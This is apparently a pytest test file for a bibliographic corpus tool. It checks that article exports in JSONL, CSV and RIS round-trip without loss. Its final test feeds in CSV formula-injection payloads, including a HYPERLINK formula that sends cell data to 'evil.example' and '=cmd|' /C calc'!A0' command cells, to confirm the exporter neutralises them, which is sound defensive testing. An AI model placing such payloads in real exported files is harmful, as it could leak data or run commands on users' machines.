"""Our own exports, and partial files, ingested: into an empty store every field the format
carries comes back; over the full store nothing stored is lost and nothing changes."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from corpus.article import WARNING_LINKS, AbstractSection, Article, Author
from corpus.exports import WRITERS, author_name, bibtex_entry, iter_records, reference_type, ris_group_name, split_pages
from corpus.search import search
from corpus.store import Store
from harvester.ingest import ingest_files
from research_corpus import copy_store

COHEN = Path("cohen-2006") / "output"
NLM_LABEL = re.compile(r"^[A-Z][A-Z0-9 ,&/()-]{1,60}$")


@pytest.fixture
def full_store(research_store_path: Path, tmp_path: Path) -> Store:
    """A copy of the research corpus (every shared record, with tags) to write into."""
    with Store(copy_store(research_store_path, tmp_path / "corpus.db")) as store:
        yield store


@pytest.fixture(scope="module")
def exported(research_store_path: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The whole research corpus exported in each format ``ingest`` reads."""
    folder = tmp_path_factory.mktemp("exports")
    paths = {}
    with Store(research_store_path) as store:
        pmids = [a.pmid for a in store.iter_articles()]
        for name in ("jsonl", "csv", "ris"):
            paths[name] = folder / f"corpus.{name}"
            with open(paths[name], "w", encoding="utf-8") as out:
                WRITERS[name](iter_records(store, pmids), out)
    return paths


def rows(store: Store) -> dict[str, tuple]:
    return {row["pmid"]: (row["data"], row["fingerprint"]) for row in store.db.execute("SELECT pmid, data, fingerprint FROM articles")}


def carried(article: Article, form: str) -> dict:
    """The fields a format writes, as it can write them."""
    fields = {
        "title": article.title,
        "abstract": article.abstract,
        "authors": [author_name(a) for a in article.authors],
        "journal": article.journal,
        "year": article.year,
        "volume": article.volume,
        "issue": article.issue,
        "pages": article.pages,
        "doi": article.doi,
        "languages": article.languages,
        "collective": [a.collective for a in article.authors],
        "pub_date": article.pub_date,
        "pub_date_sort": article.pub_date_sort,
        "book": (reference_type(article), article.book),
    }
    if form in ("jsonl", "csv"):
        fields |= {"pmcid": article.pmcid, "mesh": article.mesh_terms, "keywords": article.keywords, "publication_types": article.publication_types,
                   "journal_abbrev": article.journal_abbrev}
    if form == "jsonl":  # MeSH with major-topic flags, UIs and qualifiers; sections with NLM categories; the notices
        fields |= {"mesh": article.mesh, "abstract_sections": article.abstract_sections, "vernacular_title": article.vernacular_title,
                   "other_abstracts": article.other_abstracts, "notices": [link for link in article.links if link.kind in WARNING_LINKS]}
    if form == "ris":  # one line per value; KW holds MeSH and keywords alike; pages written out in full; a group's commas as ';'
        fields |= {"authors": [ris_group_name(a.collective) if a.collective else author_name(a) for a in article.authors],
                   "abstract": " ".join(article.abstract.split()), "pages": split_pages(article.pages), "journal_abbrev": article.journal_abbrev,
                   "publication_types": article.publication_types, "pmcid": article.pmcid,
                   "pub_date": two_digit_day(article.pub_date)}
    return fields


def two_digit_day(printed: str) -> str:
    """A printed date as RIS's DA gives it back: the day in two digits ('1996 Jun 1' → '1996 Jun 01')."""
    return re.sub(r"^(\d{4} [A-Z][a-z]{2}) (\d)(?=\s|$)", r"\1 0\2", printed)


def sections(article: Article) -> list[tuple[str, str]]:
    return [(s.label, s.text) for s in article.abstract_sections]


def lines_are_ambiguous(article: Article) -> bool:
    """'LABEL: text' lines cannot tell a mixed-case label, or an unlabelled paragraph starting 'SUMMARY: '."""
    return any(s.label and not NLM_LABEL.match(s.label) for s in article.abstract_sections) or any(
        not s.label and re.match(r"[A-Z][A-Z0-9 ,&/()-]{1,60}: ", s.text) for s in article.abstract_sections
    )


@pytest.mark.parametrize("form", ["jsonl", "csv", "ris"])
def test_an_export_ingested_into_a_new_store_gives_back_every_field_it_carries(store, form, exported, research_store):
    report = ingest_files(store, [exported[form]])
    assert report.ok, report.errors
    assert report.totals.new == research_store.count_articles() > 5000
    back = {a.pmid: a for a in store.iter_articles()}
    differ: dict[str, list[str]] = {}
    section_differ = []
    for original in research_store.iter_articles():
        copy = back[original.pmid]
        expected, got = carried(original, form), carried(copy, form)
        if form == "ris":
            got["pages"] = split_pages(copy.pages)
            assert [k for k in copy.keywords if k.startswith("oihwatch:")] == []
            assert copy.keywords == list(dict.fromkeys(original.mesh_terms + original.keywords))
        for name in expected:
            if expected[name] != got[name]:
                differ.setdefault(name, []).append(original.pmid)
        if sections(original) != sections(copy):
            section_differ.append(original)
    assert differ == {}
    if form == "ris":
        # One line holds no paragraph breaks, and a label is found only after the end of a sentence;
        # of the real abstracts with NLM labels on every section, one has a label after none
        # ("METHOD: Case-report RESULTS: ...") and one a label its stored section had missed.
        labelled = [a for a in section_differ if len(a.abstract_sections) > 1 and all(NLM_LABEL.match(s.label) for s in a.abstract_sections)]
        assert sorted(a.pmid for a in labelled) == ["10705006", "19294535"]
    elif form == "csv":
        assert [a.pmid for a in section_differ if not lines_are_ambiguous(a)] == []
        assert len(section_differ) <= 13
    else:  # the sections themselves, not 'LABEL: text' lines
        assert section_differ == []


def test_the_round_trips_cover_mesh_flags_abbreviations_and_full_dates(research_store):
    """The fields a JSONL or CSV round trip once lost are there to lose in the real records compared above."""
    articles = list(research_store.iter_articles())
    assert sum(any(m.major for m in a.mesh) for a in articles) > 100
    assert sum(any(q.endswith("*") for m in a.mesh for q in m.qualifiers) for a in articles) > 100
    assert sum(any(not q.endswith("*") for m in a.mesh for q in m.qualifiers) for a in articles) > 100
    assert sum(bool(a.journal_abbrev) for a in articles) > 100
    assert sum(len(a.pub_date.split()) == 3 for a in articles) > 100  # '1976 Sep 28'
    assert sum(a.book is not None for a in articles) == 8  # GeneReviews, PDQ and Assay Guidance Manual chapters


@pytest.mark.parametrize("form", ["jsonl", "csv", "ris"])
def test_an_export_ingested_over_the_full_store_changes_nothing(form, exported, full_store):
    before = rows(full_store)
    mesh_before = full_store.db.execute("SELECT COUNT(*) FROM articles WHERE mesh != '[]'").fetchone()[0]
    tapering = len(search(full_store, "tapering"))
    report = ingest_files(full_store, [exported[form]])
    assert report.ok, report.errors
    assert (report.totals.new, report.totals.updated, report.totals.unchanged) == (0, 0, len(before))
    assert rows(full_store) == before
    assert full_store.db.execute("SELECT COUNT(*) FROM articles WHERE mesh != '[]'").fetchone()[0] == mesh_before > 5000
    assert len(search(full_store, "tapering")) == tapering  # our 'oihwatch:topic:tapering' tags are not indexed


@pytest.mark.parametrize("folder", ["online", "local"])
def test_a_partial_csv_over_the_full_store_loses_nothing(folder, full_store, shared_data):
    before = {a.pmid: a for a in full_store.iter_articles()}
    ketamine = len(search(full_store, "mesh:Ketamine"))
    report = ingest_files(full_store, [shared_data / COHEN / folder / "Opiods.csv"])
    assert report.ok, report.errors
    assert report.totals.updated > 1000  # the Cohen files add authors, which the stored copies lack
    for after in full_store.iter_articles():
        old = before[after.pmid]
        for name in ("title", "journal", "doi", "pub_date", "pub_date_sort", "pmcid", "languages", "publication_types", "mesh", "keywords", "links"):
            assert getattr(after, name) == getattr(old, name), (after.pmid, name)
        assert " ".join(after.abstract.split()) or not old.abstract
        if old.raw_xml:
            assert after == old
    assert len(search(full_store, "mesh:Ketamine")) == ketamine > 50


def test_a_row_with_only_a_pmid_changes_nothing_and_is_reported(full_store, tmp_path):
    pmid = "12791116"
    before = rows(full_store)[pmid]
    assert full_store.get_article(pmid).title
    path = tmp_path / "pm.csv"
    path.write_text(f"pmid,title\n{pmid},\n", encoding="utf-8")
    report = ingest_files(full_store, [path])
    assert report.ok
    assert (report.totals.read, report.totals.updated) == (0, 0)
    assert [str(s) for s in report.totals.skipped] == [f"{path}: PMID {pmid}: nothing but the PMID"]
    assert rows(full_store)[pmid] == before


@pytest.mark.parametrize("form", ["jsonl", "csv", "ris"])
def test_a_retracted_paper_and_its_notice_stay_so_in_a_store_built_from_the_export(form, shared_data, tmp_path):
    notices = Path(__file__).parent / "fixtures" / "notices.xml"
    with Store(tmp_path / "ours.db") as ours:
        ingest_files(ours, [shared_data / "pubmed-xml" / "metapub" / "24084238.xml", notices])
        assert ours.get_article("24084238").retracted  # by the notice only: NLM's copy is not revised yet
        path = tmp_path / f"export.{form}"
        with open(path, "w", encoding="utf-8") as out:
            WRITERS[form](iter_records(ours, ["24084238", "99000010"]), out)
    with Store(tmp_path / "theirs.db") as theirs:
        ingest_files(theirs, [path])
        assert theirs.get_article("24084238").retracted
        assert theirs.get_article("99000010").is_notice  # and so no evidence there either


def test_group_authors_sent_back_as_csv_or_ris_are_braced_in_bibtex(store, tmp_path):
    csv_file, ris_file = tmp_path / "back.csv", tmp_path / "back.ris"
    csv_file.write_text('pmid,title,authors,year\n11157525,Nasal diamorphine spray.,"Kendall, J M; Nasal Diamorphine Trial Group",2001\n',
                        encoding="utf-8")
    ris_file.write_text("TY  - JOUR\nAU  - Gatta, Gemma\nAU  - EUROCARE Working Group\nAU  - Tumour and Angiogenesis Research Group\n"
                        "TI  - Childhood cancer survival.\nPY  - 2005\nAN  - 15923571\nDB  - PubMed\nER  - \n", encoding="utf-8")
    assert ingest_files(store, [csv_file, ris_file]).ok
    records = list(iter_records(store, ["11157525", "15923571"]))
    assert [r["collective_authors"] for r in records] == [["Nasal Diamorphine Trial Group"],
                                                         ["EUROCARE Working Group", "Tumour and Angiogenesis Research Group"]]
    assert [bibtex_entry(r)["author"] for r in records] == [
        "Kendall, J M and {Nasal Diamorphine Trial Group}",
        "Gatta, Gemma and {EUROCARE Working Group} and {Tumour and Angiogenesis Research Group}",
    ]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote_and_come_back_as_they_were(tmp_path):
    """Formulas ('=', '+', '-', '@') are shown as text in a spreadsheet; values that start so for good reason
    (a title on '+/-', pages '-', a negative volume) or with quotes of their own read back exactly."""
    articles = [
        Article("1", '=HYPERLINK("http://evil.example/?leak="&A1,"click")', [AbstractSection("=1+1 Ketamine helped.", "CONCLUSIONS")],
                [Author(collective="=1+1, +cmd|' /C calc'!A0"), Author("@Smith", "J", "J")], "=cmd|' /C calc'!A0", doi="=1+2",
                keywords=["-ketamine", "@mention"], volume="-1", pages="-", pub_date="2020", pub_date_sort="2020-01-01"),
        Article("2", "+/- 5 mg: '=' in a title", journal="'=quoted' journal", volume="''-2", issue="'Spring'", doi="10.1000/x",
                keywords=["'@", "''"], pub_date="2021", pub_date_sort="2021-01-01"),
    ]
    with Store(":memory:") as ours, Store(":memory:") as theirs:
        ours.upsert_articles(articles)
        path = tmp_path / "export.csv"
        with open(path, "w", encoding="utf-8", newline="") as out:
            WRITERS["csv"](iter_records(ours, ["1", "2"]), out)
        with open(path, encoding="utf-8", newline="") as written:
            cells = [cell for row in csv.reader(written) for cell in row]
        assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
        assert {'\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'=1+2", "'-", "'-1", "'+/- 5 mg: '=' in a title", "'''-2"} <= set(cells)
        assert ingest_files(theirs, [path]).ok
        for original in articles:
            assert carried(theirs.get_article(original.pmid), "csv") == carried(original, "csv")
